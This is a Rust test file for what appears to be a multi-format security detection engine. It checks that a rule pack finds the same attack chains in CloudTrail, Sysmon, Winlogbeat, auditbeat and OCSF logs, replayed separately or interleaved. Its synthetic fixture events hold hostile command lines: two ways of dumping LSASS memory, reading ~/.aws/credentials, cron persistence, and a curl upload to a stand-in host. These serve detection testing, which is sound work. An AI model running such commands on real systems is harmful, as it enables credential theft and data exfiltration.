//! One stream, many layouts: the shipped pack, with no pipeline, finds the same chains in
//! CloudTrail, flat Sysmon, Winlogbeat ECS, auditbeat ECS and OCSF events, whether each layout
//! is replayed alone or all of them arrive interleaved in one file (one Kafka topic fed by
//! several shippers). Each profile's field map applies per event.

mod common;

use std::path::{Path, PathBuf};

use serde_json::{Value, json};

use common::{alerts, pack, replay, titles_and_groups};

/// `2024-03-01T10:MM:SSZ` plus `secs` seconds.
fn at(secs: u64) -> String {
    format!("2024-03-01T10:{:02}:{:02}Z", secs / 60, secs % 60)
}

fn cloudtrail() -> Vec<Value> {
    let user = json!({"type": "IAMUser", "arn": "arn:aws:iam::111122223333:user/dana"});
    [
        (0, "secretsmanager.amazonaws.com", "GetSecretValue"),
        (120, "iam.amazonaws.com", "ListUsers"),
        (540, "iam.amazonaws.com", "CreateAccessKey"),
    ]
    .into_iter()
    .enumerate()
    .map(|(i, (t, source, name))| {
        json!({"eventVersion": "1.08", "eventTime": at(t), "eventSource": source,
               "eventName": name, "eventID": format!("ct-{i}"), "userIdentity": user,
               "awsRegion": "us-east-1"})
    })
    .collect()
}

fn sysmon_flat() -> Vec<Value> {
    let process = |i: u64, t: u64, image: &str, cmd: &str| {
        json!({"EventID": 1, "Channel": "Microsoft-Windows-Sysmon/Operational",
               "Computer": "WKS1", "EventRecordID": i, "UtcTime": at(t),
               "User": "CONTOSO\\eve", "Image": image, "CommandLine": cmd})
    };
    vec![
        process(
            1,
            10,
            "C:\\Windows\\System32\\rundll32.exe",
            "rundll32 C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 out.dmp full",
        ),
        process(
            2,
            190,
            "C:\\Windows\\System32\\whoami.exe",
            "whoami /groups",
        ),
        json!({"EventID": 4698, "Channel": "Security", "Computer": "WKS1",
               "EventRecordID": 3, "TimeCreated": at(1210), "SubjectDomainName": "CONTOSO",
               "SubjectUserName": "eve", "TaskName": "\\Updater"}),
    ]
}

/// The same Windows chain by another account, as Winlogbeat ships it (ECS).
fn winlogbeat() -> Vec<Value> {
    let process = |i: u64, t: u64, image: &str, cmd: &str| {
        json!({"@timestamp": at(t), "ecs": {"version": "8.0.0"},
               "event": {"kind": "event", "id": format!("wlb-{i}"), "code": "1",
                         "category": ["process"], "type": ["start"]},
               "winlog": {"channel": "Microsoft-Windows-Sysmon/Operational", "event_id": 1,
                          "computer_name": "WKS2",
                          "event_data": {"Image": image, "CommandLine": cmd,
                                         "User": "CONTOSO\\frank"}},
               "process": {"executable": image, "command_line": cmd},
               "user": {"domain": "CONTOSO", "name": "frank"}, "host": {"name": "WKS2"}})
    };
    vec![
        process(
            1,
            20,
            "C:\\Tools\\procdump64.exe",
            "procdump64.exe -ma lsass.exe l.dmp",
        ),
        process(2, 200, "C:\\Windows\\System32\\net.exe", "net user"),
        json!({"@timestamp": at(1220), "ecs": {"version": "8.0.0"},
               "event": {"kind": "event", "id": "wlb-3", "code": "4698"},
               "winlog": {"channel": "Security", "event_id": 4698, "computer_name": "WKS2",
                          "event_data": {"SubjectDomainName": "CONTOSO",
                                         "SubjectUserName": "frank", "TaskName": "\\Sync"}},
               "user": {"domain": "CONTOSO", "name": "frank"}, "host": {"name": "WKS2"}}),
    ]
}

/// The Linux chain as Sysmon for Linux writes it.
fn linux_sysmon() -> Vec<Value> {
    let process = |i: u64, t: u64, image: &str, cmd: &str| {
        json!({"Channel": "Linux-Sysmon/Operational", "EventID": 1, "Hostname": "web-1",
               "RecordNumber": i, "UtcTime": at(t), "User": "mallory", "Image": image,
               "CommandLine": cmd})
    };
    vec![
        process(1, 30, "/usr/bin/cat", "cat /home/mallory/.aws/credentials"),
        process(2, 33, "/usr/local/bin/aws", "aws sts get-caller-identity"),
        json!({"Channel": "Linux-Sysmon/Operational", "EventID": 11, "Hostname": "web-1",
               "RecordNumber": 3, "UtcTime": at(36), "User": "mallory",
               "Image": "/usr/bin/tee", "TargetFilename": "/etc/cron.d/sync"}),
        process(
            4,
            39,
            "/usr/bin/curl",
            "curl -s -T /tmp/out.tgz https://paste.example.net/up",
        ),
    ]
}

/// The same Linux chain by another user, as auditbeat's auditd module writes it (ECS:
/// `process.executable`, the command line in `process.title`, `user.name`).
fn auditbeat() -> Vec<Value> {
    let process = |i: u64, t: u64, exe: &str, title: &str| {
        json!({"@timestamp": at(t), "ecs": {"version": "8.0.0"},
               "event": {"kind": "event", "id": format!("ab-{i}"), "module": "auditd",
                         "action": "executed", "category": ["process"], "type": ["start"]},
               "process": {"executable": exe, "title": title,
                           "args": title.split(' ').collect::<Vec<_>>()},
               "user": {"name": "trent", "audit": {"name": "trent"}},
               "host": {"name": "web-2"}})
    };
    vec![
        process(1, 40, "/usr/bin/cat", "cat /home/trent/.aws/credentials"),
        process(2, 43, "/usr/local/bin/aws", "aws sts get-caller-identity"),
        json!({"@timestamp": at(46), "ecs": {"version": "8.0.0"},
               "event": {"kind": "event", "id": "ab-3", "module": "auditd",
                         "action": "opened-file", "category": ["file"], "type": ["creation"]},
               "file": {"path": "/etc/cron.d/sync"}, "process": {"executable": "/usr/bin/tee"},
               "user": {"name": "trent"}, "host": {"name": "web-2"}}),
        process(
            4,
            49,
            "/usr/bin/curl",
            "curl -s -T /tmp/out.tgz https://paste.example.net/up",
        ),
    ]
}

/// The same Linux chain by a third user, as an OCSF Process / File System Activity stream.
fn ocsf() -> Vec<Value> {
    let process = |i: u64, t: u64, path: &str, cmd: &str| {
        json!({"class_uid": 1007, "activity_id": 1, "time": 1709287200000u64 + t * 1000,
               "metadata": {"uid": format!("ocsf-{i}"), "version": "1.1.0"},
               "actor": {"user": {"name": "victor"}},
               "process": {"file": {"path": path}, "cmd_line": cmd}})
    };
    vec![
        process(1, 50, "/usr/bin/cat", "cat /home/victor/.aws/credentials"),
        process(2, 53, "/usr/local/bin/aws", "aws sts get-caller-identity"),
        json!({"class_uid": 1001, "activity_id": 1, "time": 1709287200000u64 + 56_000,
               "metadata": {"uid": "ocsf-3", "version": "1.1.0"},
               "actor": {"user": {"name": "victor"}},
               "file": {"path": "/etc/cron.d/sync"}}),
        process(
            4,
            59,
            "/usr/bin/curl",
            "curl -s -T /tmp/out.tgz https://paste.example.net/up",
        ),
    ]
}

fn write(path: &Path, events: &[Value]) {
    let text: String = events.iter().map(|e| format!("{e}\n")).collect();
    std::fs::write(path, text).unwrap();
}

/// Each alert line with its evidences' `source` rewritten by `rename` (file, line) → (file,
/// line), so alerts of the mixed file compare with those of the per-layout files.
fn relocate(text: &str, rename: &dyn Fn(&str, u64) -> (String, u64)) -> Vec<String> {
    let pattern = "\"source\":{\"file\":\"";
    text.lines()
        .map(|line| {
            let mut out = String::new();
            let mut rest = line;
            while let Some(i) = rest.find(pattern) {
                out.push_str(&rest[..i]);
                let after = &rest[i + pattern.len()..];
                let end = after.find('"').unwrap();
                let file = &after[..end];
                let after = &after[end..];
                let prefix = "\",\"line\":";
                assert!(after.starts_with(prefix), "{after}");
                let digits: String = after[prefix.len()..]
                    .chars()
                    .take_while(|c| c.is_ascii_digit())
                    .collect();
                let (f, l) = rename(file, digits.parse().unwrap());
                out.push_str(&format!("{pattern}{f}{prefix}{l}"));
                rest = &after[prefix.len() + digits.len()..];
            }
            out.push_str(rest);
            out
        })
        .collect()
}

#[test]
fn the_same_linux_chain_from_sysmon_and_from_auditbeat_alerts_once_each() {
    let dir = tempfile::tempdir().unwrap();
    for (name, events, group) in [
        ("sysmon.jsonl", linux_sysmon(), "mallory"),
        ("auditbeat.jsonl", auditbeat(), "trent"),
        ("ocsf.jsonl", ocsf(), "victor"),
    ] {
        let path = dir.path().join(name);
        write(&path, &events);
        let (text, summary, _out) = replay(&pack(), &[path], 1, "5m");
        assert_eq!(summary.sequencer.dead_letters, 0, "{name}");
        assert_eq!(
            titles_and_groups(&text),
            vec![(
                "Linux chain: credential read, discovery, persistence, exfiltration".to_string(),
                group.to_string()
            )],
            "{name}"
        );
        let evidences = alerts(&text)[0]["evidences"].as_array().unwrap().len();
        assert_eq!(evidences, 4, "{name}");
    }
}

#[test]
fn a_mixed_layout_stream_gives_the_union_of_the_per_layout_alerts_byte_for_byte() {
    let dir = tempfile::tempdir().unwrap();
    let layouts: Vec<(&str, Vec<Value>)> = vec![
        ("cloudtrail.jsonl", cloudtrail()),
        ("sysmon.jsonl", sysmon_flat()),
        ("winlogbeat.jsonl", winlogbeat()),
        ("linux.jsonl", linux_sysmon()),
        ("auditbeat.jsonl", auditbeat()),
        ("ocsf.jsonl", ocsf()),
    ];
    let mut union = Vec::new();
    // (mixed line) -> (layout file, line), in the round-robin order the mixed file is written:
    // out of time order by up to 20 minutes, inside the 30 minute lateness.
    let mut origin: Vec<(String, u64)> = Vec::new();
    let mut mixed = Vec::new();
    for (name, events) in &layouts {
        let path = dir.path().join(name);
        write(&path, events);
        let (text, summary, _out) = replay(&pack(), std::slice::from_ref(&path), 1, "30m");
        assert_eq!(summary.sequencer.dead_letters, 0, "{name}");
        // One chain per layout: its incident's Create (and the Close that ends it).
        assert_eq!(
            titles_and_groups(&text).len(),
            1,
            "{name}: one chain per layout"
        );
        union.extend(text.lines().map(str::to_string));
    }
    let longest = layouts.iter().map(|(_, e)| e.len()).max().unwrap();
    for i in 0..longest {
        for (name, events) in &layouts {
            if let Some(e) = events.get(i) {
                mixed.push(e.clone());
                let file = dir.path().join(name).display().to_string();
                origin.push((file, i as u64 + 1));
            }
        }
    }
    let mixed_path: PathBuf = dir.path().join("mixed.jsonl");
    write(&mixed_path, &mixed);
    for shards in [1, 4] {
        let (text, summary, _out) =
            replay(&pack(), std::slice::from_ref(&mixed_path), shards, "30m");
        assert_eq!(summary.sequencer.dead_letters, 0);
        let mixed_name = mixed_path.display().to_string();
        let mut got = relocate(&text, &|file, line| {
            assert_eq!(file, mixed_name);
            origin[line as usize - 1].clone()
        });
        got.sort();
        let mut want = union.clone();
        want.sort();
        assert_eq!(got, want, "{shards} shard(s)");
    }
}
